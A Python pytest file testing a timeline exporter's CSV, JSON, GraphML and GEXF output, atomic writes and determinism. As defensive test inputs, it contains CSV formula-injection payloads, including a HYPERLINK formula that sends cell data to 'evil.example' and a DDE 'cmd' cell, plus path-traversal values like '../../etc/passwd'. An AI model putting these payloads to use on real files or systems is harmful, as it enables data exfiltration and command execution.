"""File exports (timeline.export): safe CSV, atomic whole outputs, determinism, formats."""

from __future__ import annotations

import csv
import io
import json
import os
import random
from dataclasses import replace
from datetime import date
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
from output_records import ACTORS, ARTICLES, ERRORS, make_events

from timeline import export, graph, table
from timeline.pipeline import Timeline

FILES = ["events.csv", "mentions.csv", "actors.csv", "articles.csv", "events.json",
         "timeline.json", "actors.graphml", "actors.gexf"]


def make_timeline(events=None, articles=None, errors=None) -> Timeline:
    return Timeline(
        records=make_events() if events is None else events,
        article_records=ARTICLES if articles is None else articles,
        errors=ERRORS if errors is None else errors,
        actor_records=ACTORS,
    )


@pytest.fixture
def tl() -> Timeline:
    return make_timeline()


@pytest.fixture
def written(tl, tmp_path) -> Path:
    out = tmp_path / "out"
    export.write_all(tl, out)
    return out


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


# -- what is written -------------------------------------------------------------
def test_write_all_files_and_manifest(tl, tmp_path):
    out = tmp_path / "new" / "out"  # created with parents
    paths = export.write_all(tl, out)
    assert [p.name for p in paths] == FILES
    assert all(p.parent == out and p.is_file() for p in paths)
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES + [export.MANIFEST])
    manifest = json.loads((out / export.MANIFEST).read_text())
    assert manifest == {"files": sorted(FILES)}


def test_graphml_reads_back(tl, written):
    back = nx.read_graphml(written / "actors.graphml")
    G = tl.graph
    assert sorted(back.nodes) == sorted(G.nodes)
    assert {frozenset(e) for e in back.edges} == {frozenset(e) for e in G.edges}
    for u, v, w in G.edges(data="weight"):
        assert back.edges[u, v]["weight"] == w
    assert dict(back.nodes(data=True)) == dict(G.nodes(data=True))


def test_gexf_reads_back_dynamic_with_spells(tl, written):
    back = nx.read_gexf(written / "actors.gexf")
    G = tl.graph
    assert back.graph["mode"] == "dynamic"
    assert sorted(back.nodes) == sorted(G.nodes)
    assert {frozenset(e) for e in back.edges} == {frozenset(e) for e in G.edges}
    for u, v, w in G.edges(data="weight"):
        assert back.edges[u, v]["weight"] == w
    assert back.nodes["macron"]["label"] == "Emmanuel Macron"
    assert back.nodes["macron"]["spells"] == [("2025-02-17", "2025-02-17")]
    assert back.nodes["zelensky"]["spells"] == [("2025-02-10", "2025-02-16")]
    assert back.edges["lavrov", "rubio"]["spells"] == [("2025-02-18", "2025-02-18")]
    # only the undated statement: no spell, so Gephi shows the edge at all times
    assert "spells" not in back.edges["UKR", "zelensky"]
    text = (written / "actors.gexf").read_text()
    assert 'timeformat="date"' in text and "lastmodifieddate" not in text
    # every attribute survives, so the graph read back can be sliced too
    for n, data in G.nodes(data=True):
        assert {k: v for k, v in back.nodes[n].items() if k not in ("label", "spells")} == data
    for u, v, data in G.edges(data=True):
        got = {k: x for k, x in back.edges[u, v].items() if k not in ("id", "spells")}
        assert got == data
    s, e = date(2025, 2, 17), date(2025, 2, 18)
    assert sorted(graph.slice_graph(back, s, e).nodes) == sorted(graph.slice_graph(G, s, e).nodes)


def test_events_json(tl, written):
    data = json.loads((written / "events.json").read_text())
    csv_df = pd.read_csv(written / "events.csv", dtype="str", keep_default_na=False)
    assert [d["event_id"] for d in data] == csv_df["event_id"].tolist()
    paris = next(d for d in data if d["event_id"] == "ev-paris")
    assert paris["date_start"] == "2025-02-17" and paris["first_reported"] == "2025-02-18"
    assert paris["actors"] == ["Emmanuel Macron", "Keir Starmer", "Olaf Scholz", "Ukraine"]
    assert paris["actor_ids"] == ["macron", "starmer", "scholz", "UKR"]
    assert [m["mention_id"] for m in paris["mentions"]] == ["lemonde-4", "seed-2"]
    assert paris["mentions"][1]["date_start"] == "2025-02-17"
    assert paris["mentions"][1]["sentence"].endswith('"We want a strong and lasting peace."')
    # JSON is not a spreadsheet: text stays as it is
    statement = next(d for d in data if d["event_id"] == "ev-statement")
    assert statement["title"].startswith("=Zelensky") and statement["date_start"] is None


def test_timelinejs(tl, written):
    data = json.loads((written / "timeline.json").read_text())
    assert data["title"]["text"]["headline"] == "Timeline"
    items = {e["unique_id"]: e for e in data["events"]}
    assert "ev-statement" not in items  # undated: TimelineJS needs a year
    assert list(items) == ["ev-invasion", "ev-msc", "ev-call", "ev-paris", "ev-riyadh"]
    assert items["ev-invasion"]["start_date"] == {"year": "2022"}
    assert "end_date" not in items["ev-invasion"]
    assert items["ev-invasion"]["display_date"] == "c. 2022"
    assert items["ev-msc"]["start_date"] == {"year": "2025", "month": "2", "day": "10"}
    assert items["ev-msc"]["end_date"] == {"year": "2025", "month": "2", "day": "16"}
    assert items["ev-paris"]["group"] == "CONSULT"
    assert items["ev-paris"]["text"]["headline"] == "Paris mini-summit on Ukraine"
    assert "&quot;We want a strong and lasting peace.&quot;" in items["ev-paris"]["text"]["text"]


# TimelineJS dates carry the event's precision: month/day dropped when coarser.
@pytest.mark.parametrize("gran,start,end,start_date,end_date", [
    ("day", "2025-02-17", "2025-02-17", {"year": "2025", "month": "2", "day": "17"}, None),
    ("week", "2025-02-10", "2025-02-16", {"year": "2025", "month": "2", "day": "10"},
     {"year": "2025", "month": "2", "day": "16"}),
    ("month", "2025-02-01", "2025-02-28", {"year": "2025", "month": "2"}, None),
    ("quarter", "2025-01-01", "2025-03-31", {"year": "2025", "month": "1"},
     {"year": "2025", "month": "3"}),
    ("year", "2022-01-01", "2022-12-31", {"year": "2022"}, None),
    ("decade", "1990-01-01", "1999-12-31", {"year": "1990"}, {"year": "1999"}),
])
def test_timelinejs_precision(gran, start, end, start_date, end_date):
    ev = replace(make_events()[1], date_start=pd.Timestamp(start).date(),
                 date_end=pd.Timestamp(end).date(), granularity=gran)
    item = export.timelinejs([ev], ACTORS)["events"][0]
    assert item["start_date"] == start_date
    assert item.get("end_date") == end_date


# -- spreadsheet-safe CSV ----------------------------------------------------------
# Cells a spreadsheet would run as a formula get a leading quote; safe text and
# text that merely contains those characters later stay as they are.
@pytest.mark.parametrize("cell,expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+1", "'+1"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("Paris mini-summit on Ukraine", "Paris mini-summit on Ukraine"),
    ("US-Russia talks = no Ukraine", "US-Russia talks = no Ukraine"),
    ("2+2 talks", "2+2 talks"),
    ("'quoted already", "'quoted already"),
    ("", ""),
])
def test_formula_neutralisation(cell, expected, tmp_path):
    df = pd.DataFrame({"title": pd.Series([cell, "ok"], dtype="str")})
    path = export.write_csv(df, tmp_path / "t.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == expected
    raw = export.write_csv(df, tmp_path / "raw.csv", raw=True)
    with open(raw, newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh))[1][0] == cell


def test_numbers_and_dates_never_neutralised(tmp_path):
    df = pd.DataFrame({
        "delta_days": pd.Series([-3, 4], dtype="int64"),
        "score": pd.Series([-0.25, 1.5], dtype="float64"),
        "day": pd.to_datetime(pd.Series(["2025-02-17", None])).astype("datetime64[s]"),
        "note": pd.Series(["-3", "4"], dtype="str"),  # text: neutralised
    })
    rows = list(csv.reader(io.StringIO(export.csv_text(df))))
    assert rows[1:] == [["-3", "-0.25", "2025-02-17", "'-3"], ["4", "1.5", "", "4"]]


def test_written_tables_are_neutralised(written):
    events = pd.read_csv(written / "events.csv", dtype="str", keep_default_na=False)
    title = events.set_index("event_id").loc["ev-statement", "title"]
    assert title == "'=Zelensky rejects deals made without Ukraine"
    mentions = pd.read_csv(written / "mentions.csv", dtype="str", keep_default_na=False)
    sentence = mentions.set_index("mention_id").loc["seed-11", "sentence"]
    assert sentence.startswith("'-Zelensky said")
    articles = pd.read_csv(written / "articles.csv", dtype="str", keep_default_na=False)
    assert articles.set_index("article_id").loc["empty-note", "title"] == "'@mentions digest"


def test_raw_csv_keeps_cells(tl, tmp_path):
    export.write_all(tl, tmp_path, raw_csv=True)
    back = table.read_csv("events", tmp_path / "events.csv")
    pd.testing.assert_frame_equal(back, tl.events)


# Quoting: commas, double quotes, newlines and CR inside a sentence read back
# equal through pandas and through the csv module.
@pytest.mark.parametrize("sentence", [
    "European leaders, including Starmer and Scholz, met in Paris on Monday.",
    'Macron said, "We want a strong and lasting peace."',
    "European leaders met in Paris on Monday;\nMacron hosted them at the Elysee.",
    "Line one\r\nline two, with \"quotes\"",
    "Zelensky: “Ukraine will never accept” — l'Élysée, Kyiv, Київ",
])
def test_quoting_round_trip(sentence, tmp_path):
    df = pd.DataFrame({"sentence": pd.Series([sentence, "after"], dtype="str"),
                       "char_start": [0, 10]})
    path = export.write_csv(df, tmp_path / "m.csv")
    back = pd.read_csv(path, dtype={"sentence": "str"}, keep_default_na=False)
    assert back["sentence"].tolist() == [sentence, "after"]
    assert back["char_start"].tolist() == [0, 10]
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["sentence", "char_start"], [sentence, "0"], ["after", "10"]]
    assert path.read_bytes().endswith(b"after,10\n")


def test_csvs_load_with_documented_types(tl, written):
    for kind, frame in (("events", tl.events), ("mentions", tl.mentions),
                        ("actors", tl.actors), ("articles", tl.articles)):
        back = table.read_csv(kind, written / f"{kind}.csv")
        assert list(back.columns) == list(frame.columns)
        assert back.dtypes.astype(str).tolist() == frame.dtypes.astype(str).tolist()
        assert len(back) == len(frame)
        plain = pd.read_csv(written / f"{kind}.csv")  # and plain pandas reads it too
        assert list(plain.columns) == list(frame.columns)


# -- atomic, whole outputs -----------------------------------------------------------
def test_failure_while_rendering_leaves_previous_outputs(tl, written, monkeypatch):
    before = snapshot(written)

    def boom(G):
        raise RuntimeError("disk full while rendering")

    monkeypatch.setattr(export, "gexf_bytes", boom)
    with pytest.raises(RuntimeError, match="disk full"):
        export.write_all(make_timeline(events=make_events()[:2]), written)
    assert snapshot(written) == before


def test_failure_while_writing_leaves_previous_outputs(tl, written, monkeypatch):
    before = snapshot(written)
    calls = {"n": 0}
    real_fsync = export.os.fsync

    def flaky_fsync(fd):
        calls["n"] += 1
        if calls["n"] == 4:  # three temporaries written, the fourth fails
            raise OSError(28, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(export.os, "fsync", flaky_fsync)
    with pytest.raises(OSError, match="No space left"):
        export.write_all(make_timeline(events=make_events()[:2]), written)
    assert calls["n"] == 4
    assert snapshot(written) == before  # old files intact, no temporary left behind


def test_second_run_removes_what_only_the_first_wrote(tl, tmp_path):
    out = tmp_path / "out"
    export.write_all(tl, out, extra={"timeline.html": b"<html></html>"})
    (out / "my-notes.txt").write_text("not ours")
    assert (out / "timeline.html").exists()
    paths = export.write_all(tl, out, outputs=["events.csv", "actors.graphml"])
    assert [p.name for p in paths] == ["events.csv", "actors.graphml"]
    assert sorted(p.name for p in out.iterdir()) == [
        export.MANIFEST, "actors.graphml", "events.csv", "my-notes.txt"]
    assert json.loads((out / export.MANIFEST).read_text()) == {
        "files": ["actors.graphml", "events.csv"]}


def test_adopted_file_is_removed_by_a_run_that_does_not_write_it(tl, tmp_path):
    # the CLI writes timeline.html itself, then adopts it into the manifest
    export.write_all(tl, tmp_path)
    (tmp_path / "timeline.html").write_text("<html></html>")
    export.adopt(tmp_path, [tmp_path / "timeline.html"])
    assert "timeline.html" in json.loads((tmp_path / export.MANIFEST).read_text())["files"]
    export.write_all(tl, tmp_path)  # e.g. a later run with --no-html
    assert not (tmp_path / "timeline.html").exists()


@pytest.mark.parametrize("name", ["../elsewhere.html", "missing.html", export.MANIFEST])
def test_adopt_refuses_foreign_or_missing(tl, tmp_path, name):
    out = tmp_path / "out"
    export.write_all(tl, out)
    (tmp_path / "elsewhere.html").write_text("x")
    with pytest.raises((ValueError, FileNotFoundError)):
        export.adopt(out, [out / name if name != "../elsewhere.html" else name])


def test_rerun_replaces_content(tmp_path):
    export.write_all(make_timeline(), tmp_path)
    export.write_all(make_timeline(events=make_events()[:1]), tmp_path)
    assert len(pd.read_csv(tmp_path / "events.csv")) == 1


def test_manifest_cannot_delete_outside_out_dir(tl, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "precious.txt"
    victim.write_text("keep")
    (out / export.MANIFEST).write_text(json.dumps(
        {"files": ["../precious.txt", str(victim), "sub/x.csv", ".."]}))
    export.write_all(tl, out)
    assert victim.read_text() == "keep"


def test_paths_never_come_from_records(tmp_path):
    evil = replace(ARTICLES[0], article_id="../../etc/passwd", title="../../escape",
                   path="/etc/passwd")
    ev = make_events()[1]
    ev = replace(ev, event_id="../../ev", mentions=tuple(replace(m, article_id=evil.article_id)
                                                        for m in ev.mentions))
    out = tmp_path / "out"
    export.write_all(make_timeline(events=[ev], articles=[evil]), out)
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == \
        sorted(FILES + [export.MANIFEST])


@pytest.mark.parametrize("name", ["../timeline.html", "sub/timeline.html", "events.csv",
                                  export.MANIFEST])
def test_bad_extra_names_are_refused(tl, tmp_path, name):
    with pytest.raises(ValueError):
        export.write_all(tl, tmp_path / "out", extra={name: b"x"})
    assert not (tmp_path / "timeline.html").exists()


def test_out_dir_that_is_a_file(tl, tmp_path):
    f = tmp_path / "out"
    f.write_text("x")
    with pytest.raises(NotADirectoryError, match="not a folder"):
        export.write_all(tl, f)


def test_unknown_output_name(tl, tmp_path):
    with pytest.raises(ValueError, match="unknown output"):
        export.write_all(tl, tmp_path, outputs=["events.xlsx"])


# -- determinism -----------------------------------------------------------------------
def test_byte_identical_regardless_of_input_order(tmp_path):
    export.write_all(make_timeline(), tmp_path / "a")
    rng = random.Random(2025)
    events = [replace(e, mentions=tuple(reversed(e.mentions))) for e in make_events()]
    rng.shuffle(events)
    articles, errors = list(ARTICLES), list(ERRORS)
    rng.shuffle(articles)
    rng.shuffle(errors)
    export.write_all(make_timeline(events, articles, errors), tmp_path / "b")
    a, b = snapshot(tmp_path / "a"), snapshot(tmp_path / "b")
    assert a.keys() == b.keys()
    for name in a:
        assert a[name] == b[name], name


def test_repeat_run_is_byte_identical(tl, tmp_path):
    export.write_all(tl, tmp_path / "a")
    export.write_all(make_timeline(), tmp_path / "b")
    assert snapshot(tmp_path / "a") == snapshot(tmp_path / "b")


# -- empty timeline -----------------------------------------------------------------------
def test_empty_timeline_writes_valid_files(tmp_path):
    export.write_all(Timeline(records=[]), tmp_path)
    for kind in ("events", "mentions", "actors", "articles"):
        back = table.read_csv(kind, tmp_path / f"{kind}.csv")
        assert back.empty and list(back.columns) == list(table.SCHEMAS[kind])
    assert (tmp_path / "events.csv").read_text().count("\n") == 1  # the header
    assert json.loads((tmp_path / "events.json").read_text()) == []
    assert json.loads((tmp_path / "timeline.json").read_text())["events"] == []
    assert nx.read_graphml(tmp_path / "actors.graphml").number_of_nodes() == 0
    assert nx.read_gexf(tmp_path / "actors.gexf").number_of_nodes() == 0


def test_outputs_are_readable_by_others_under_the_usual_umask(tmp_path):
    # Temporary files are created 0600; the published outputs must not stay private.
    old = os.umask(0o022)
    try:
        written = export.write_all(Timeline(records=[]), tmp_path / "out")
    finally:
        os.umask(old)
    for path in written:
        assert path.stat().st_mode & 0o777 == 0o644, path


# -- written in chunks -------------------------------------------------------------
@pytest.mark.parametrize(
    "rows",
    [
        # One row per chunk: every row is a chunk boundary, also in articles.csv,
        # whose rows interleave articles and errors by sort key.
        1,
        # Chunks that do not divide the rows evenly (a short last chunk).
        2,
        3,
    ],
)
def test_files_written_in_chunks_are_the_rendered_bytes(tl, tmp_path, monkeypatch, rows):
    whole = export.render_all(tl)  # one chunk per table
    monkeypatch.setattr(export, "CSV_CHUNK_ROWS", rows)
    export.write_all(tl, tmp_path)
    assert {name: (tmp_path / name).read_bytes() for name in FILES} == whole
    # and the same bytes as csv_text of the whole frames (the documented tables)
    for kind in ("events", "mentions", "actors", "articles"):
        assert whole[f"{kind}.csv"] == export.csv_text(getattr(tl, kind)).encode("utf-8")


def test_write_all_leaves_no_table_on_the_timeline(tl, tmp_path):
    # The tables made for the CSVs are dropped once written: a large build does
    # not keep a second copy of its records as DataFrames.
    export.write_all(tl, tmp_path)
    assert not {"events", "mentions", "actors", "articles"} & set(vars(tl))


def test_a_table_already_built_is_written_from_its_frame(tl, tmp_path, monkeypatch):
    frame = tl.mentions  # built (and cached) by the caller before writing
    monkeypatch.setattr(export, "CSV_CHUNK_ROWS", 2)
    export.write_all(tl, tmp_path)
    assert (tmp_path / "mentions.csv").read_bytes() == export.csv_text(frame).encode("utf-8")
